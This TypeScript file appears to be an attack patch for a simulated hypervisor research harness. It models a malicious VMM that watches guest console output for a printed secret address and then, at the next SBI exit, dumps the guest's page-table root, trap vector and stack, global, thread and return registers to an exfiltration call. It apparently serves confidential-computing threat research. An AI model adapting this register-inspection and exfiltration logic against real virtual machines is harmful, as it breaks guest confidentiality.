// Pre-SEV-ES register inspection: at an SBI exit the VMM reads the whole vCPU state, not just the
// call's arguments. It sends the guest's page-table root (vsatp), trap vector (vstvec), stack,
// global, thread and return pointers to the attacker.
import type { VmmApi } from 'hyp';

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

/** Calls `found` with the key's guest physical address when a guest prints `secret where`. */
function watchKeys(vmm: VmmApi, found: (domain: number, gpa: number) => void): void {
  const seen = new Map<number, string>();
  vmm.wrap('console.flush', (original, domain, bytes) => {
    let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
    const at = text.indexOf('SECRET where va ');
    const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
    const end = pa < 0 ? -1 : text.indexOf(' len', pa);
    if (end > 0) {
      found(domain, parseHex(text, pa + 6));
      text = text.slice(end);
    }
    seen.set(domain, text.slice(-200));
    return original(domain, bytes);
  });
}

export default definePatch({
  name: 'read registers at an SBI exit',
  description: 'Dumps vsatp, vstvec, sp, gp, tp and ra at the first SBI exit after `secret where`.',
  install(vmm, hyp) {
    const armed = new Set<number>();
    watchKeys(vmm, (domain) => {
      armed.add(domain);
    });
    vmm.hooks.on('exit', (domain, vcpu, exit) => {
      if (exit.kind !== 'sbi' || !armed.has(domain)) return;
      armed.delete(domain);
      const r = hyp.vcpu.regs(vcpu);
      const words = [r.vsatp, r.vstvec, r.x2, r.x3, r.x4, r.x1];
      const out = new Uint8Array(words.length * 4);
      words.forEach((w, i) => {
        for (let b = 0; b < 4; b++) out[i * 4 + b] = (w >>> (8 * b)) & 0xff;
      });
      vmm.exfiltrate(`dom${domain} registers`, out);
    });
  },
});
